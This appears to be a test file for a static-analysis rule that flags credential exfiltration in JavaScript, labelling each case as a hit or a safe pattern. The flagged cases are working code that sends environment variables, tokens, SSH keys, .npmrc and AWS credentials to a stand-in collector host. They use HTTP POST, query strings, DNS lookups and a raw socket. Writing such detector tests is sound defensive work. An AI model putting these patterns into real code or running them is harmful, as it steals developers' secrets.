// Tests for exfiltration.yaml (js.taint.exfiltration): the kind of code
// credential-stealing packages run from a postinstall script.
const fs = require('fs');
const fsp = require('fs/promises');
const os = require('os');
const path = require('path');
const https = require('https');
const net = require('net');
const dns = require('dns');
const axios = require('axios');

const C2 = 'https://collector.example.net/c';

async function direct() {
  // ruleid: js.taint.exfiltration
  await fetch(C2, { method: 'POST', body: JSON.stringify(process.env) });

  // ruleid: js.taint.exfiltration
  await axios.post(C2, { host: os.hostname(), env: process.env });

  // A token used as the Authorization header of the API it belongs to.
  // ok: js.taint.exfiltration
  await fetch('https://api.github.com/user', { headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });

  // ok: js.taint.exfiltration
  await fetch(C2, { method: 'POST', body: JSON.stringify({ mode: process.env.NODE_ENV }) });

  // Whether a token is set says nothing about it.
  // ok: js.taint.exfiltration
  await fetch(C2, { method: 'POST', body: JSON.stringify({ hasToken: Boolean(process.env.NPM_TOKEN) }) });

  // Logging is no network sink.
  // ok: js.taint.exfiltration
  console.log(JSON.stringify(process.env));
}

function viaHttpRequest() {
  const body = JSON.stringify({ t: process.env.NPM_TOKEN });
  const req = https.request({ hostname: 'collector.example.net', method: 'POST', path: '/' });
  // ruleid: js.taint.exfiltration
  req.write(body);
  req.end();
}

function viaDns() {
  const hex = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || '').toString('hex').slice(0, 60);
  // The secret becomes a label of the name that is looked up.
  // ruleid: js.taint.exfiltration
  dns.lookup(`${hex}.x.collector.example.net`, () => {});
}

function sshKeyOverSocket() {
  const keyPath = path.join(os.homedir(), '.ssh', 'id_rsa');
  const key = fs.readFileSync(keyPath, 'utf8');
  const sock = net.connect(4444, 'collector.example.net');
  // ruleid: js.taint.exfiltration
  sock.write(key);
  // The path alone is no secret; existsSync returns a boolean.
  // ok: js.taint.exfiltration
  sock.end(JSON.stringify({ exists: fs.existsSync(keyPath) }));
}

function npmrcViaCallback() {
  // fs.readFile(p, (err, data) => sink(data)).
  fs.readFile(path.join(os.homedir(), '.npmrc'), 'utf8', (err, data) => {
    // ruleid: js.taint.exfiltration
    axios.post(C2, { npmrc: data });
  });
}

async function awsViaPromises() {
  const creds = await fsp.readFile(`${os.homedir()}/.aws/credentials`, 'utf8');
  // In the URL's query string.
  // ruleid: js.taint.exfiltration
  https.get(C2 + '?d=' + encodeURIComponent(creds));
}

function harmlessFile() {
  const pkg = fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8');
  // ok: js.taint.exfiltration
  return fetch(C2, { method: 'POST', body: pkg });
}

// --- cross-function, aliasing, overwrite ---------------------------------------------

function collect() {
  const info = { user: os.userInfo().username };
  Object.assign(info, process.env);
  return info;
}

function send(payload) {
  // Reached from report() with collect()'s result.
  // ruleid: js.taint.exfiltration
  return fetch(C2, { method: 'POST', body: JSON.stringify(payload) });
}

function report() {
  return send(collect());
}

function overwritten() {
  let data = process.env.GITHUB_TOKEN;
  data = 'ping';
  // ok: js.taint.exfiltration
  return axios.post(C2, data);
}

function tokens() {
  const e = process.env;
  return [e.NPM_TOKEN, e.GITHUB_TOKEN];
}

function sendEach(ws) {
  // Elements of a tainted array through forEach.
  // ruleid: js.taint.exfiltration
  tokens().forEach((t) => ws.send(t));
}

module.exports = { direct, viaHttpRequest, viaDns, sshKeyOverSocket, npmrcViaCallback, awsViaPromises, harmlessFile, report, overwritten, sendEach };
